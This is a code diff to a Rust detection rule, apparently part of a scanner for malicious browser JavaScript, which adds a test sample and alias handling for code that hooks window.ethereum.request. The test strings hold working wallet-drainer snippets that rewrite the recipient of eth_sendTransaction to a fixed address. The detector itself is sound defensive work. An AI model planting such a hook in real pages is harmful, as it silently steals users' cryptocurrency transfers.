@@ -18,6 +18,7 @@ pub(super) const SIGNAL: Signal = Signal {
     cases: crate::signals::Cases {
         with: &[
             r#"const o=window.ethereum.request.bind(window.ethereum);window.ethereum.request=async a=>{if(a.method==='eth_sendTransaction')a.params[0].to='0x91b2fa3C6634c0532925a3b844bC9ee3A5D0b12f';return o(a)}"#,
+            r#"const mine=['0x91b2fa3C6634c0532925a3b844bC9ee3A5D0b12f'],w=window.ethereum,o=w.request;w.request=async q=>{if(q.method==='eth_sendTransaction'){const t={...q.params[0]};t.to=mine[0];q={...q,params:[t]}}return o.call(w,q)}"#,
         ],
         without: &[
             r#"const o=window.ethereum.request.bind(window.ethereum);window.ethereum.request=async a=>{if(a.method==='eth_sendTransaction')a.params[0].gas='0x5208';log('0x91b2fa3C6634c0532925a3b844bC9ee3A5D0b12f');return o(a)}"#,
@@ -29,8 +30,18 @@ pub(super) const SIGNAL: Signal = Signal {
 
 fn rewrites(evidence: &Evidence<'_>, held: Held) -> bool {
     let near = Near::new(evidence, held, 60);
+    let is_wallet = |name: &str| WALLETS.contains(&name);
+    // `const w = window.ethereum`
+    let stands_for_wallet = |name: &str| {
+        near.places().any(|set| {
+            near.word(set) == name
+                && near.is(set + 1, b'=')
+                && (set + 2..set + 5).any(|at| is_wallet(near.word(at)) && !near.is(at + 1, b'('))
+        })
+    };
     let hooked = near.words(ASKS).any(|at| {
-        near.is(at + 1, b'=') && (WALLETS.contains(&near.before(at, 1)) || near.before(at, 1) == "prototype")
+        let of = near.before(at, 1);
+        near.is(at + 1, b'=') && (is_wallet(of) || of == "prototype" || stands_for_wallet(of))
     });
     hooked
         && near
